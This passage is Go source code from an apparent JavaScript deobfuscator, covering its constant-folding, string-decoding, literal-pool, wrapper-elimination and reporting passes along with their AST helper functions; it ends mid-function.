	obj, ok := mem.Object.(*ast.Identifier)
	if !ok || obj.Name != name {
		return false
	}
	prop, ok := mem.Property.(*ast.Identifier)
	return ok && prop.Name == "length"
}

// validatePoolRefs deletes from pools any entry with a reference that is
// not a plain read: a bare use (aliasing), a method or property access
// other than .length, or any write through the pool.
func validatePoolRefs(prog *ast.Program, pools map[string]*literalPool) {
	disqualify := func(target ast.Expression) {
		if mem, ok := target.(*ast.MemberExpression); ok {
			if id, ok := mem.Object.(*ast.Identifier); ok {
				delete(pools, id.Name)
			}
		}
	}
	ast.WalkWithParent(prog, func(n, parent ast.Node) bool {
		switch x := n.(type) {
		case *ast.AssignmentExpression:
			disqualify(x.Left)
		case *ast.UpdateExpression:
			disqualify(x.Argument)
		case *ast.UnaryExpression:
			if x.Operator == "delete" {
				disqualify(x.Argument)
			}
		case *ast.Identifier:
			if _, ok := pools[x.Name]; !ok || !isValueRef(x, parent) {
				return true
			}
			mem, ok := parent.(*ast.MemberExpression)
			if !ok || mem.Object != ast.Expression(x) {
				delete(pools, x.Name)
				return true
			}
			if !mem.Computed {
				if prop, ok := mem.Property.(*ast.Identifier); !ok || prop.Name != "length" {
					delete(pools, x.Name)
				}
			}
		}
		return true
	})
}

// intIndex reads a non-negative-or-negative integer literal index,
// accepting the unary-minus spelling.
func intIndex(e ast.Expression) (int, bool) {
	v, ok := numOperand(e)
	if !ok || v != math.Trunc(v) || math.Abs(v) > 1<<31 {
		return 0, false
	}
	return int(v), true
}

// decodePoolRead computes what `D(arg)` returns: apply the rotation, the
// optional modulo (JS semantics — a negative index stays negative and the
// read is undefined, so we decline), index the pool, and atob-decode when
// the decoder does.
func decodePoolRead(p *literalPool, d *poolDecoder, arg int) (ast.Expression, bool) {
	idx := float64(arg) + d.rot
	if d.mod {
		idx = math.Mod(idx, float64(len(p.elems)))
	}
	if idx != math.Trunc(idx) || idx < 0 || idx >= float64(len(p.elems)) {
		return nil, false
	}
	elem := p.elems[int(idx)]
	if !d.atob {
		return cloneLiteral(elem), true
	}
	if elem.Kind != ast.LiteralString {
		return nil, false
	}
	s, ok := jsAtob(elem.StrVal)
	if !ok {
		return nil, false
	}
	return strLit(s), true
}
