package deobfuscate

import (
	"math"

	"jsrevealer/internal/js/ast"
)

// foldPass is classic constant folding restricted to exact JS semantics:
// arithmetic on number literals (finite results only), string
// concatenation, literal comparisons, bitwise/shift via ToInt32/ToUint32,
// unary operators on literals, and logical/conditional operators with a
// literal left side or test. Obfuscators lean on these heavily —
// `"a"+"b"` chains, JSObfu's `(n^m)^m` arithmetic, `!0`/`!1` booleans.
type foldPass struct{}

// Name implements Pass.
func (foldPass) Name() string { return "fold" }

// Run implements Pass.
func (foldPass) Run(prog *ast.Program, rep *Report) bool {
	n := 0
	ast.RewriteExpressions(prog, func(e ast.Expression) ast.Expression {
		if out := foldExpr(e); out != nil {
			n++
			return out
		}
		return e
	})
	rep.Note("fold", n)
	return n > 0
}

// foldExpr returns the folded replacement for e, or nil to keep it. The
// rewriter visits bottom-up, so `2+3*4` collapses fully in one run.
func foldExpr(e ast.Expression) ast.Expression {
	switch x := e.(type) {
	case *ast.BinaryExpression:
		return foldBinary(x)
	case *ast.UnaryExpression:
		return foldUnary(x)
	case *ast.LogicalExpression:
		l := litOf(x.Left)
		if l == nil {
			return nil
		}
		// `lit && e` / `lit || e`: the literal decides which operand is the
		// value; short-circuit semantics make this exact.
		if truthy(l) == (x.Operator == "&&") {
			return x.Right
		}
		return x.Left
	case *ast.ConditionalExpression:
		t := litOf(x.Test)
		if t == nil {
			return nil
		}
		if truthy(t) {
			return x.Consequent
		}
		return x.Alternate
	}
	return nil
}

// numOperand reads a numeric operand, looking through a unary minus on a
// literal — the parser has no negative literals, so `2 - -3` arrives as
// Binary(-, 2, Unary(-, 3)). The unary form is only folded here, as part
// of a parent fold, never standalone (that would make the pass fire on
// every benign script containing a negative number).
func numOperand(e ast.Expression) (float64, bool) {
	if l := litOf(e); l != nil && l.Kind == ast.LiteralNumber {
		return l.NumVal, true
	}
	if u, ok := e.(*ast.UnaryExpression); ok && u.Operator == "-" {
		if l := litOf(u.Argument); l != nil && l.Kind == ast.LiteralNumber {
			return -l.NumVal, true
		}
	}
	return 0, false
}

func foldBinary(b *ast.BinaryExpression) ast.Expression {
	if lv, lok := numOperand(b.Left); lok {
		if rv, rok := numOperand(b.Right); rok {
			return foldNumeric(b.Operator, lv, rv)
		}
	}
	l, r := litOf(b.Left), litOf(b.Right)
	if l == nil || r == nil {
		return nil
	}
	if l.Kind == ast.LiteralString && r.Kind == ast.LiteralString {
		return foldStringOp(b.Operator, l.StrVal, r.StrVal)
	}
	if l.Kind == ast.LiteralBool && r.Kind == ast.LiteralBool {
		switch b.Operator {
		case "==", "===":
			return boolLit(l.BoolVal == r.BoolVal)
		case "!=", "!==":
			return boolLit(l.BoolVal != r.BoolVal)
		}
	}
	// Mixed `+` with a string side is ToString concatenation.
	if b.Operator == "+" && (l.Kind == ast.LiteralString || r.Kind == ast.LiteralString) {
		ls, lok := toString(l)
		rs, rok := toString(r)
		if lok && rok {
			return strLit(ls + rs)
		}
	}
	return nil
}

// foldNumeric folds a binary operator over two number values. Results that
// are not finite are left unfolded: the printer has no literal spelling
// for Infinity or NaN.
func foldNumeric(op string, l, r float64) ast.Expression {
	switch op {
	case "+", "-", "*", "/", "%":
		var v float64
		switch op {
		case "+":
			v = l + r
		case "-":
			v = l - r
		case "*":
			v = l * r
		case "/":
			v = l / r
		case "%":
			v = math.Mod(l, r)
		}
		if math.IsInf(v, 0) || math.IsNaN(v) {
			return nil
		}
		return numLit(v)
	case "&":
		return numLit(float64(toInt32(l) & toInt32(r)))
	case "|":
		return numLit(float64(toInt32(l) | toInt32(r)))
	case "^":
		return numLit(float64(toInt32(l) ^ toInt32(r)))
	case "<<":
		return numLit(float64(toInt32(l) << (toUint32(r) & 31)))
	case ">>":
		return numLit(float64(toInt32(l) >> (toUint32(r) & 31)))
	case ">>>":
		return numLit(float64(toUint32(l) >> (toUint32(r) & 31)))
	case "<":
		return boolLit(l < r)
	case "<=":
		return boolLit(l <= r)
	case ">":
		return boolLit(l > r)
	case ">=":
		return boolLit(l >= r)
	case "==", "===":
		return boolLit(l == r)
	case "!=", "!==":
		return boolLit(l != r)
	}
	return nil
}

func foldStringOp(op string, l, r string) ast.Expression {
	switch op {
	case "+":
		return strLit(l + r)
	case "<":
		return boolLit(l < r)
	case "<=":
		return boolLit(l <= r)
	case ">":
		return boolLit(l > r)
	case ">=":
		return boolLit(l >= r)
	case "==", "===":
		return boolLit(l == r)
	case "!=", "!==":
		return boolLit(l != r)
	}
	return nil
}

func foldUnary(u *ast.UnaryExpression) ast.Expression {
	switch u.Operator {
	case "!":
		if l := litOf(u.Argument); l != nil {
			return boolLit(!truthy(l))
		}
		// `![]` and `!{}` on EMPTY composites only: non-empty ones could
		// have side-effecting elements. Both are truthy objects.
		switch a := u.Argument.(type) {
		case *ast.ArrayExpression:
			if len(a.Elements) == 0 {
				return boolLit(false)
			}
		case *ast.ObjectExpression:
			if len(a.Properties) == 0 {
				return boolLit(false)
			}
		}
	case "+":
		if l := litOf(u.Argument); l != nil && l.Kind == ast.LiteralNumber {
			return l
		}
	case "typeof":
		if l := litOf(u.Argument); l != nil {
			switch l.Kind {
			case ast.LiteralString:
				return strLit("string")
			case ast.LiteralNumber:
				return strLit("number")
			case ast.LiteralBool:
				return strLit("boolean")
			case ast.LiteralNull:
				return strLit("object")
			}
		}
	}
	return nil
}
