package deobfuscate

import (
	"encoding/base64"
	"math"
	"strconv"
	"strings"
	"unicode/utf16"
	"unicode/utf8"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/printer"
)

// stringsPass normalizes string and number spellings and folds the
// stateless decoder builtins obfuscators route literals through:
// `String.fromCharCode`, `parseInt`/`parseFloat`, `atob`, `unescape`,
// `decodeURIComponent`, `String(x)`, the `split`/`reverse`/`join` shuffle
// (LiteString's `"gnirts".split("").reverse().join("")`), `charAt`/
// `charCodeAt`/`.length` on string literals, hex/exponent number raws, and
// `a["b"]` back to `a.b`. Every fold reproduces the builtin's exact JS
// result or declines — a partial or lossy decode never fires.
type stringsPass struct{}

// Name implements Pass.
func (stringsPass) Name() string { return "strings" }

// Run implements Pass.
func (stringsPass) Run(prog *ast.Program, rep *Report) bool {
	n := 0
	ast.RewriteExpressions(prog, func(e ast.Expression) ast.Expression {
		switch x := e.(type) {
		case *ast.Literal:
			if canonicalizeRaw(x) {
				n++
			}
		case *ast.CallExpression:
			if out := foldCall(x); out != nil {
				n++
				return out
			}
		case *ast.MemberExpression:
			if out, changed := foldMember(x); changed {
				n++
				return out
			}
		}
		return e
	})
	rep.Note("strings", n)
	return n > 0
}

// canonicalizeRaw drops a literal's original spelling when it differs from
// the canonical one, so `0x61` prints as `97` and `'\x61'` as `"a"`. The
// pass counts a change only when the spelling actually differs — plain
// literals keep their Raw and the pass stays quiet on them.
func canonicalizeRaw(l *ast.Literal) bool {
	switch l.Kind {
	case ast.LiteralNumber:
		if l.Raw != "" && l.Raw != printer.FormatNumber(l.NumVal) {
			l.Raw = ""
			return true
		}
	case ast.LiteralString:
		// Only escape-bearing spellings are worth rewriting; a merely
		// single-quoted string is left untouched. Invalid UTF-8 keeps its
		// Raw spelling — reprinting it would substitute replacement chars.
		if l.Raw != "" && strings.ContainsRune(l.Raw, '\\') &&
			utf8.ValidString(l.StrVal) && l.Raw != printer.Quote(l.StrVal) {
			l.Raw = ""
			return true
		}
	}
	return false
}

// foldMember folds member reads on literals: `"abc".length` and computed
// access with a string key that is a valid identifier (`a["b"]` → `a.b`).
func foldMember(m *ast.MemberExpression) (ast.Expression, bool) {
	if !m.Computed {
		if id, ok := m.Property.(*ast.Identifier); ok && id.Name == "length" {
			if l := litOf(m.Object); l != nil && l.Kind == ast.LiteralString {
				return numLit(float64(len(utf16.Encode([]rune(l.StrVal))))), true
			}
		}
		return nil, false
	}
	if l := litOf(m.Property); l != nil && l.Kind == ast.LiteralString && identName(l.StrVal) {
		m.Computed = false
		m.Property = &ast.Identifier{Name: l.StrVal}
		return m, true
	}
	return nil, false
}

// foldCall dispatches over the stateless global and method decoders.
func foldCall(c *ast.CallExpression) ast.Expression {
	switch callee := c.Callee.(type) {
	case *ast.Identifier:
		return foldGlobalCall(callee.Name, c.Arguments)
	case *ast.MemberExpression:
		if callee.Computed {
			return nil
		}
		prop, ok := callee.Property.(*ast.Identifier)
		if !ok {
			return nil
		}
		if id, ok := callee.Object.(*ast.Identifier); ok && id.Name == "String" && prop.Name == "fromCharCode" {
			return foldFromCharCode(c.Arguments)
		}
		return foldMethodCall(callee.Object, prop.Name, c.Arguments)
	}
	return nil
}

func foldGlobalCall(name string, args []ast.Expression) ast.Expression {
	if len(args) == 0 || len(args) > 2 {
		return nil
	}
	arg := litOf(args[0])
	if arg == nil {
		return nil
	}
	switch name {
	case "String":
		if len(args) == 1 {
			if s, ok := toString(arg); ok {
				return strLit(s)
			}
		}
	case "parseInt":
		if arg.Kind != ast.LiteralString {
			return nil
		}
		radix := 0
		if len(args) == 2 {
			r := litOf(args[1])
			if r == nil || r.Kind != ast.LiteralNumber || r.NumVal != float64(int(r.NumVal)) {
				return nil
			}
			radix = int(r.NumVal)
		}
		if v, ok := jsParseInt(arg.StrVal, radix); ok {
			return numLit(v)
		}
	case "parseFloat":
		if len(args) == 1 && arg.Kind == ast.LiteralString {
			if v, ok := jsParseFloat(arg.StrVal); ok {
				return numLit(v)
			}
		}
	case "unescape":
		if len(args) == 1 && arg.Kind == ast.LiteralString {
			if s, ok := jsUnescape(arg.StrVal); ok {
				return strLit(s)
			}
		}
	case "decodeURIComponent":
		if len(args) == 1 && arg.Kind == ast.LiteralString {
			if s, ok := jsDecodeURIComponent(arg.StrVal); ok {
				return strLit(s)
			}
		}
	case "atob":
		if len(args) == 1 && arg.Kind == ast.LiteralString {
			if s, ok := jsAtob(arg.StrVal); ok {
				return strLit(s)
			}
		}
	}
	return nil
}

// foldMethodCall folds pure methods on string and all-literal array
// receivers.
func foldMethodCall(object ast.Expression, method string, args []ast.Expression) ast.Expression {
	if l := litOf(object); l != nil && l.Kind == ast.LiteralString {
		return foldStringMethod(l.StrVal, method, args)
	}
	if arr, ok := object.(*ast.ArrayExpression); ok {
		return foldArrayMethod(arr, method, args)
	}
	return nil
}

func foldStringMethod(s, method string, args []ast.Expression) ast.Expression {
	switch method {
	case "split":
		if len(args) != 1 {
			return nil
		}
		sep := litOf(args[0])
		if sep == nil || sep.Kind != ast.LiteralString {
			return nil
		}
		var parts []string
		if sep.StrVal == "" {
			// `split("")` separates UTF-16 code units; only fold when every
			// character is one unit (no astral chars to split in half).
			for _, r := range s {
				if r > 0xFFFF {
					return nil
				}
				parts = append(parts, string(r))
			}
		} else {
			parts = strings.Split(s, sep.StrVal)
		}
		arr := &ast.ArrayExpression{Elements: make([]ast.Expression, len(parts))}
		for i, p := range parts {
			arr.Elements[i] = strLit(p)
		}
		return arr
	case "charAt", "charCodeAt":
		if len(args) > 1 {
			return nil
		}
		idx := 0
		if len(args) == 1 {
			l := litOf(args[0])
			if l == nil || l.Kind != ast.LiteralNumber || l.NumVal != float64(int(l.NumVal)) {
				return nil
			}
			idx = int(l.NumVal)
		}
		units := utf16.Encode([]rune(s))
		if idx < 0 || idx >= len(units) {
			if method == "charAt" {
				return strLit("")
			}
			return nil // charCodeAt out of range is NaN
		}
		if method == "charCodeAt" {
			return numLit(float64(units[idx]))
		}
		if isSurrogate(units[idx]) {
			return nil
		}
		return strLit(string(rune(units[idx])))
	}
	return nil
}

func foldArrayMethod(arr *ast.ArrayExpression, method string, args []ast.Expression) ast.Expression {
	// All elements must be primitive literals: elided holes or expressions
	// could carry side effects or non-primitive values.
	lits := make([]*ast.Literal, len(arr.Elements))
	for i, el := range arr.Elements {
		if lits[i] = litOf(el); lits[i] == nil {
			return nil
		}
	}
	switch method {
	case "reverse":
		if len(args) != 0 {
			return nil
		}
		out := &ast.ArrayExpression{Elements: make([]ast.Expression, len(lits))}
		for i, l := range lits {
			out.Elements[len(lits)-1-i] = l
		}
		return out
	case "join":
		sep := ","
		switch len(args) {
		case 0:
		case 1:
			l := litOf(args[0])
			if l == nil || l.Kind != ast.LiteralString {
				return nil
			}
			sep = l.StrVal
		default:
			return nil
		}
		parts := make([]string, len(lits))
		for i, l := range lits {
			if l.Kind == ast.LiteralNull {
				parts[i] = "" // join treats null/undefined as empty
				continue
			}
			s, ok := toString(l)
			if !ok {
				return nil
			}
			parts[i] = s
		}
		return strLit(strings.Join(parts, sep))
	}
	return nil
}

func foldFromCharCode(args []ast.Expression) ast.Expression {
	if len(args) == 0 {
		return nil
	}
	units := make([]uint16, len(args))
	for i, a := range args {
		l := litOf(a)
		if l == nil || l.Kind != ast.LiteralNumber {
			return nil
		}
		units[i] = uint16(toUint32(l.NumVal)) // ToUint16
	}
	s, ok := unitsToString(units)
	if !ok {
		return nil
	}
	return strLit(s)
}

func isSurrogate(u uint16) bool { return u >= 0xD800 && u <= 0xDFFF }

// unitsToString converts UTF-16 code units to a string, declining on any
// unpaired surrogate (Go strings cannot represent them losslessly).
func unitsToString(units []uint16) (string, bool) {
	for i := 0; i < len(units); i++ {
		if !isSurrogate(units[i]) {
			continue
		}
		if units[i] >= 0xDC00 || i+1 >= len(units) ||
			units[i+1] < 0xDC00 || units[i+1] > 0xDFFF {
			return "", false
		}
		i++ // valid lead+trail pair
	}
	return string(utf16.Decode(units)), true
}

// jsParseInt mirrors JS parseInt on a literal string: whitespace trim,
// sign, 0x handling, longest valid digit prefix. Declines on NaN and on
// magnitudes past 2^53 where float64 would silently round.
func jsParseInt(s string, radix int) (float64, bool) {
	t := strings.TrimSpace(s)
	neg := false
	if t != "" && (t[0] == '+' || t[0] == '-') {
		neg = t[0] == '-'
		t = t[1:]
	}
	if radix == 0 || radix == 16 {
		if len(t) >= 2 && t[0] == '0' && (t[1] == 'x' || t[1] == 'X') {
			t = t[2:]
			radix = 16
		} else if radix == 0 {
			radix = 10
		}
	}
	if radix < 2 || radix > 36 {
		return 0, false
	}
	var n int64
	digits := 0
	for i := 0; i < len(t); i++ {
		d := digitVal(t[i])
		if d < 0 || d >= radix {
			break
		}
		n = n*int64(radix) + int64(d)
		digits++
		if n > 1<<53 {
			return 0, false
		}
	}
	if digits == 0 {
		return 0, false // NaN
	}
	v := float64(n)
	if neg {
		v = -v
	}
	return v, true
}

func digitVal(c byte) int {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0')
	case c >= 'a' && c <= 'z':
		return int(c-'a') + 10
	case c >= 'A' && c <= 'Z':
		return int(c-'A') + 10
	}
	return -1
}

// jsParseFloat folds parseFloat only when the whole trimmed string is a
// plain decimal number (no Inf/NaN/hex spellings, no trailing junk) — the
// only shape obfuscators emit and the only one that is trivially exact.
func jsParseFloat(s string) (float64, bool) {
	t := strings.TrimSpace(s)
	if t == "" {
		return 0, false
	}
	sawDigit := false
	for i := 0; i < len(t); i++ {
		switch c := t[i]; {
		case c >= '0' && c <= '9':
			sawDigit = true
		case c == '+' || c == '-' || c == '.' || c == 'e' || c == 'E':
		default:
			return 0, false
		}
	}
	if !sawDigit {
		return 0, false
	}
	v, err := strconv.ParseFloat(t, 64)
	if err != nil || math.IsInf(v, 0) {
		return 0, false
	}
	return v, true
}

// jsUnescape decodes %XX and %uXXXX sequences exactly as the legacy
// `unescape` builtin does (malformed escapes pass through literally).
func jsUnescape(s string) (string, bool) {
	rs := []rune(s)
	var units []uint16
	for i := 0; i < len(rs); {
		if rs[i] == '%' {
			if i+5 < len(rs) && rs[i+1] == 'u' {
				if v, ok := hex4(rs[i+2 : i+6]); ok {
					units = append(units, v)
					i += 6
					continue
				}
			}
			if i+2 < len(rs) {
				if v, ok := hex4(rs[i+1 : i+3]); ok {
					units = append(units, v)
					i += 3
					continue
				}
			}
		}
		units = append(units, utf16.Encode(rs[i:i+1])...)
		i++
	}
	return unitsToString(units)
}

func hex4(rs []rune) (uint16, bool) {
	var v uint16
	for _, r := range rs {
		if r > 0x7F {
			return 0, false
		}
		d := digitVal(byte(r))
		if d < 0 || d > 15 {
			return 0, false
		}
		v = v<<4 | uint16(d)
	}
	return v, true
}

// jsDecodeURIComponent percent-decodes to bytes and requires the result to
// be well-formed UTF-8 (the builtin throws URIError otherwise — we simply
// decline to fold).
func jsDecodeURIComponent(s string) (string, bool) {
	var b []byte
	for i := 0; i < len(s); {
		if s[i] == '%' {
			if i+2 >= len(s) {
				return "", false
			}
			hi, lo := digitVal(s[i+1]), digitVal(s[i+2])
			if hi < 0 || hi > 15 || lo < 0 || lo > 15 {
				return "", false
			}
			b = append(b, byte(hi<<4|lo))
			i += 3
			continue
		}
		b = append(b, s[i])
		i++
	}
	if !utf8.Valid(b) {
		return "", false
	}
	return string(b), true
}

// jsAtob decodes forgiving base64: ASCII whitespace stripped, padding
// optional. atob returns a binary string — each byte becomes one U+0000 to
// U+00FF code unit, which Go represents exactly.
func jsAtob(s string) (string, bool) {
	clean := strings.Map(func(r rune) rune {
		switch r {
		case ' ', '\t', '\n', '\r', '\f':
			return -1
		}
		return r
	}, s)
	enc := base64.StdEncoding
	if len(clean)%4 != 0 {
		enc = base64.RawStdEncoding
	}
	b, err := enc.DecodeString(clean)
	if err != nil {
		return "", false
	}
	out := make([]rune, len(b))
	for i, c := range b {
		out[i] = rune(c)
	}
	return string(out), true
}
