package deobfuscate

import "time"

// PassStat is one pass's accounting for a pipeline run.
type PassStat struct {
	// Name is the pass name.
	Name string
	// Runs counts invocations across fixpoint rounds.
	Runs int
	// Changes counts individual rewrites the pass performed.
	Changes int
	// Duration is the total wall time spent in the pass.
	Duration time.Duration
}

// Report records what one pipeline run did: which passes fired, how often,
// and whether a budget cut the run short. Fired() is the verdict-provenance
// view threaded into audit records and NDJSON output as `deob_passes`.
type Report struct {
	// Rounds is the number of fixpoint rounds executed (at least 1).
	Rounds int
	// Truncated is empty for a clean fixpoint, otherwise the budget that
	// stopped the run: "rounds", "nodes", or "deadline".
	Truncated string
	// Stats holds per-pass accounting in pipeline order.
	Stats []PassStat

	index map[string]int
}

func newReport(passes []Pass) *Report {
	r := &Report{
		Stats: make([]PassStat, len(passes)),
		index: make(map[string]int, len(passes)),
	}
	for i, p := range passes {
		r.Stats[i] = PassStat{Name: p.Name()}
		r.index[p.Name()] = i
	}
	return r
}

// stat returns the mutable stat slot for a pass, creating one for passes
// the report was not pre-seeded with.
func (r *Report) stat(name string) *PassStat {
	if r.index == nil {
		r.index = make(map[string]int)
	}
	if i, ok := r.index[name]; ok {
		return &r.Stats[i]
	}
	r.index[name] = len(r.Stats)
	r.Stats = append(r.Stats, PassStat{Name: name})
	return &r.Stats[len(r.Stats)-1]
}

// Note adds n rewrites to the pass's change count. Passes call this from
// Run so the report (and the changes metric) counts individual rewrites,
// not just fired-or-not.
func (r *Report) Note(pass string, n int) {
	if n > 0 {
		r.stat(pass).Changes += n
	}
}

// Fired returns the names of passes that changed the tree, in pipeline
// order — the `deob_passes` provenance value.
func (r *Report) Fired() []string {
	var out []string
	for _, s := range r.Stats {
		if s.Changes > 0 {
			out = append(out, s.Name)
		}
	}
	return out
}

// Total returns the total rewrite count across all passes.
func (r *Report) Total() int {
	n := 0
	for _, s := range r.Stats {
		n += s.Changes
	}
	return n
}
