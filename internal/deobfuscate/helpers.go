package deobfuscate

import (
	"math"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/printer"
)

// Literal constructors. New literals carry no Raw text, so the printer
// emits the canonical spelling.

func numLit(f float64) *ast.Literal {
	return &ast.Literal{Kind: ast.LiteralNumber, NumVal: f}
}

func strLit(s string) *ast.Literal {
	return &ast.Literal{Kind: ast.LiteralString, StrVal: s}
}

func boolLit(b bool) *ast.Literal {
	return &ast.Literal{Kind: ast.LiteralBool, BoolVal: b}
}

// cloneLiteral copies a literal so inlining never shares nodes — passes
// mutate in place, and an aliased node would let one rewrite corrupt
// another site.
func cloneLiteral(l *ast.Literal) *ast.Literal {
	c := *l
	return &c
}

// litOf returns e as a primitive literal, or nil. Regular expressions are
// excluded: they are objects with identity, not values.
func litOf(e ast.Expression) *ast.Literal {
	l, ok := e.(*ast.Literal)
	if !ok || l.Kind == ast.LiteralRegExp {
		return nil
	}
	return l
}

// truthy applies JS ToBoolean to a primitive literal.
func truthy(l *ast.Literal) bool {
	switch l.Kind {
	case ast.LiteralString:
		return l.StrVal != ""
	case ast.LiteralNumber:
		return l.NumVal != 0 && !math.IsNaN(l.NumVal)
	case ast.LiteralBool:
		return l.BoolVal
	default: // null
		return false
	}
}

// toString applies JS ToString to a primitive literal. The bool is false
// when the exact JS spelling cannot be guaranteed (see jsNumberString) —
// callers must not fold in that case.
func toString(l *ast.Literal) (string, bool) {
	switch l.Kind {
	case ast.LiteralString:
		return l.StrVal, true
	case ast.LiteralNumber:
		return jsNumberString(l.NumVal)
	case ast.LiteralBool:
		if l.BoolVal {
			return "true", true
		}
		return "false", true
	default:
		return "null", true
	}
}

// jsNumberString returns the JS ToString spelling of f when Go's canonical
// formatting provably matches it. Both sides emit shortest round-trip
// decimal digits, but they disagree on when to switch to exponent notation
// (JS holds out to 1e21/1e-6, Go bails earlier) — so only plain decimal
// output is trusted.
func jsNumberString(f float64) (string, bool) {
	s := printer.FormatNumber(f)
	for i := 0; i < len(s); i++ {
		if s[i] == 'e' || s[i] == 'E' {
			return "", false
		}
	}
	return s, true
}

// toInt32 / toUint32 implement the ToInt32/ToUint32 abstract operations
// used by the bitwise and shift operators.
func toInt32(f float64) int32 {
	return int32(toUint32(f))
}

func toUint32(f float64) uint32 {
	if math.IsNaN(f) || math.IsInf(f, 0) {
		return 0
	}
	return uint32(int64(math.Trunc(f)))
}

// identName reports whether s is a valid ES5 identifier name (ASCII rules
// only — enough for dot-access normalization) that is not a reserved word.
func identName(s string) bool {
	if s == "" || reservedWords[s] {
		return false
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		letter := c == '_' || c == '$' ||
			(c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
		if !letter && (i == 0 || c < '0' || c > '9') {
			return false
		}
	}
	return true
}

var reservedWords = map[string]bool{
	"break": true, "case": true, "catch": true, "class": true,
	"const": true, "continue": true, "debugger": true, "default": true,
	"delete": true, "do": true, "else": true, "enum": true, "export": true,
	"extends": true, "false": true, "finally": true, "for": true,
	"function": true, "if": true, "import": true, "in": true,
	"instanceof": true, "let": true, "new": true, "null": true,
	"return": true, "static": true, "super": true, "switch": true,
	"this": true, "throw": true, "true": true, "try": true, "typeof": true,
	"var": true, "void": true, "while": true, "with": true, "yield": true,
}

// hasWith reports whether the program contains a with statement — dynamic
// scope defeats every binding-based analysis, so scope-sensitive passes
// refuse the whole program.
func hasWith(prog *ast.Program) bool {
	found := false
	ast.Walk(prog, func(n ast.Node) bool {
		if _, ok := n.(*ast.WithStatement); ok {
			found = true
		}
		return !found
	})
	return found
}

// bindingCounts counts binding occurrences per name: var declarators,
// function declaration/expression names, parameters, and catch parameters.
// A name bound exactly once program-wide cannot be shadowed, which is the
// safety precondition for cross-scope inlining.
func bindingCounts(prog *ast.Program) map[string]int {
	counts := make(map[string]int)
	ast.Walk(prog, func(n ast.Node) bool {
		switch x := n.(type) {
		case *ast.VariableDeclarator:
			counts[x.ID.Name]++
		case *ast.FunctionDeclaration:
			counts[x.ID.Name]++
			for _, p := range x.Params {
				counts[p.Name]++
			}
		case *ast.FunctionExpression:
			if x.ID != nil {
				counts[x.ID.Name]++
			}
			for _, p := range x.Params {
				counts[p.Name]++
			}
		case *ast.CatchClause:
			counts[x.Param.Name]++
		}
		return true
	})
	return counts
}

// writeCounts counts writes per name: assignment targets, updates, deletes,
// and for-in loop variables that are bare identifiers. Member-expression
// targets do not count here — they mutate an object, not a binding.
func writeCounts(prog *ast.Program) map[string]int {
	counts := make(map[string]int)
	ast.Walk(prog, func(n ast.Node) bool {
		switch x := n.(type) {
		case *ast.AssignmentExpression:
			if id, ok := x.Left.(*ast.Identifier); ok {
				counts[id.Name]++
			}
		case *ast.UpdateExpression:
			if id, ok := x.Argument.(*ast.Identifier); ok {
				counts[id.Name]++
			}
		case *ast.UnaryExpression:
			if x.Operator == "delete" {
				if id, ok := x.Argument.(*ast.Identifier); ok {
					counts[id.Name]++
				}
			}
		case *ast.ForInStatement:
			if id, ok := x.Left.(*ast.Identifier); ok {
				counts[id.Name]++
			}
		}
		return true
	})
	return counts
}

// isValueRef reports whether id under parent is a value reference — i.e.
// not a binding site, label, or property name.
func isValueRef(id *ast.Identifier, parent ast.Node) bool {
	switch p := parent.(type) {
	case *ast.VariableDeclarator:
		return p.ID != id
	case *ast.FunctionDeclaration:
		if p.ID == id {
			return false
		}
		for _, prm := range p.Params {
			if prm == id {
				return false
			}
		}
	case *ast.FunctionExpression:
		if p.ID == id {
			return false
		}
		for _, prm := range p.Params {
			if prm == id {
				return false
			}
		}
	case *ast.MemberExpression:
		return p.Computed || p.Property != ast.Expression(id)
	case *ast.Property:
		return p.Computed || p.Key != ast.Expression(id)
	case *ast.LabeledStatement:
		return p.Label != id
	case *ast.BreakStatement, *ast.ContinueStatement:
		return false
	case *ast.CatchClause:
		return p.Param != id
	}
	return true
}

// refCount counts value references to name across the whole program (its
// own declarator, labels, parameters, and property names excluded). Zero
// means the binding is dead and its declaration can be dropped.
func refCount(prog *ast.Program, name string) int {
	count := 0
	ast.WalkWithParent(prog, func(n, parent ast.Node) bool {
		if id, ok := n.(*ast.Identifier); ok && id.Name == name && isValueRef(id, parent) {
			count++
		}
		return true
	})
	return count
}

// removeDecls deletes the given declarator and function-declaration nodes
// from prog (matched by pointer), dropping a VariableDeclaration entirely
// when its last declarator goes. Returns the number of nodes removed.
func removeDecls(prog *ast.Program, deadVars map[*ast.VariableDeclarator]bool, deadFns map[ast.Statement]bool) int {
	if len(deadVars) == 0 && len(deadFns) == 0 {
		return 0
	}
	removed := 0
	ast.RewriteStatements(prog, func(s ast.Statement) ([]ast.Statement, bool) {
		if deadFns[s] {
			removed++
			return nil, true
		}
		decl, ok := s.(*ast.VariableDeclaration)
		if !ok {
			return nil, false
		}
		kept := decl.Declarations[:0:0]
		for _, d := range decl.Declarations {
			if deadVars[d] {
				removed++
			} else {
				kept = append(kept, d)
			}
		}
		if len(kept) == len(decl.Declarations) {
			return nil, false
		}
		if len(kept) == 0 {
			return nil, true
		}
		decl.Declarations = kept
		return []ast.Statement{decl}, true
	})
	return removed
}
