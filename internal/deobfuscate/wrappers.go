package deobfuscate

import "jsrevealer/internal/js/ast"

// wrapperPass eliminates pure dispatch helpers of the jfogs family:
//
//	function W(g) { return g; }                    // identity wrapper
//	function T(g) { return g(); }                  // thunk caller
//	function F() { return f.apply(null, arguments); } // apply forwarder
//
// `W(x)` becomes `x`; `T(function () { return X; })` becomes `X` (only
// when X captures neither `this` nor `arguments`, which the unwrap would
// rebind); `F(a, b)` becomes `f(a, b)`. Wrapper bindings must be unique
// and unwritten; a forwarder target must be unshadowable (declared at most
// once program-wide). Wrapper declarations are dropped once every call has
// been inlined away.
type wrapperPass struct{}

// Name implements Pass.
func (wrapperPass) Name() string { return "wrappers" }

// Run implements Pass.
func (wrapperPass) Run(prog *ast.Program, rep *Report) bool {
	if hasWith(prog) {
		return false
	}
	bindings := bindingCounts(prog)
	writes := writeCounts(prog)

	identities := make(map[string]*ast.FunctionDeclaration)
	thunks := make(map[string]*ast.FunctionDeclaration)
	forwarders := make(map[string]*ast.FunctionDeclaration)
	forwardTo := make(map[string]string)
	for _, s := range prog.Body {
		fn, ok := s.(*ast.FunctionDeclaration)
		if !ok || bindings[fn.ID.Name] != 1 || writes[fn.ID.Name] != 0 {
			continue
		}
